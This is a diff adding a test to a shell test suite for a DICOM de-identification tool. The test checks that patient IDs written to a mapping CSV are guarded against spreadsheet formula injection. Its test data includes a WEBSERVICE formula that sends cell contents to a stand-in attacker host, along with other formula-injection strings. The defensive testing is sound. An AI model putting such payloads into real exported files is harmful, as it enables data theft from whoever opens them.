@@ -180,6 +180,43 @@ for b in bad: print("FAIL:", b, file=sys.stderr)
 sys.exit(1 if bad else 0)
 PY
 
+# ---- mapping formulas: a PatientID a spreadsheet would run as a formula opens as text ----
+# First character = + - @ TAB CR (OWASP CSV injection), or ' itself: one leading ' and quotes; stripping one
+# leading ' from any field that has one gives the value back. The column layout is unchanged.
+python3 - "$T/fsrc" <<'PY'
+import os, struct, sys
+def el(g, e, vr, v):
+    return struct.pack("<HH2sH", g, e, vr.encode(), len(v)) + v
+def pad(b, c=b" "): return b + c if len(b) % 2 else b
+os.makedirs(sys.argv[1])
+vals = [b'=WEBSERVICE("http://attacker.example/?"&I3&J3)', b"@SUM(1+1)", b"+1+cmd", b"-2+3", b"\t=1", b"\r=2",
+        b"'quoted", b"MRN4471902"]
+for i, v in enumerate(vals):
+    ds = (el(8, 0x16, "UI", pad(b"1.2.840.10008.5.1.4.1.1.7", b"\0"))
+          + el(8, 0x18, "UI", pad(b"1.2.826.0.1.3680043.2.1125.62.%d" % i, b"\0")) + el(0x10, 0x20, "LO", pad(v))
+          + el(0x20, 0xD, "UI", pad(b"1.2.3.4", b"\0")) + el(0x20, 0xE, "UI", pad(b"1.2.3.5", b"\0")))
+    open(os.path.join(sys.argv[1], "f%d.dcm" % i), "wb").write(ds)
+PY
+run 0 "mapping formulas" deidentify -q --config "$T/basic.json" --key-file "$T/key" --mapping "$T/map5.csv" \
+    "$T/fsrc" "$T/dst5"
+python3 - "$T/map5.csv" <<'PY' || fail "mapping formulas: a formula is written live or not as documented"
+import csv, sys
+raw = open(sys.argv[1], newline="").read()
+rows = sorted(csv.DictReader(open(sys.argv[1], newline="")), key=lambda r: int(r["instance"]))
+want = ['=WEBSERVICE("http://attacker.example/?"&I3&J3)', "@SUM(1+1)", "+1+cmd", "-2+3", "\t=1", "\r=2", "'quoted",
+        "MRN4471902"]
+got = [r["original_patient_id"] for r in rows]
+bad = []
+if [g[1:] if g.startswith("'") else g for g in got] != want: bad.append("stripping one ' does not give %r" % got)
+if [g.startswith("'") for g in got] != [True] * 7 + [False]: bad.append("guards %r" % got)
+for line in raw.split("\n")[1:]:
+    for lead in ("=", "+", "-", "@", "\t", "\r"):
+        if ("," + lead) in line or ("," + '"' + lead) in line: bad.append("a field starts with %r" % lead)
+if len(rows[0]) != 10: bad.append("the column layout changed")
+for b in bad: print("FAIL:", b, file=sys.stderr)
+sys.exit(1 if bad else 0)
+PY
+
 # ---- atomicity: a run killed midway leaves no mapping file and no temp file ----
 # 600 distinct instances (600 outputs when the run completes; copies of two files would make only 2, and then
 # "killed mid-run" below could never be false). The kill comes once the first output exists, and the test
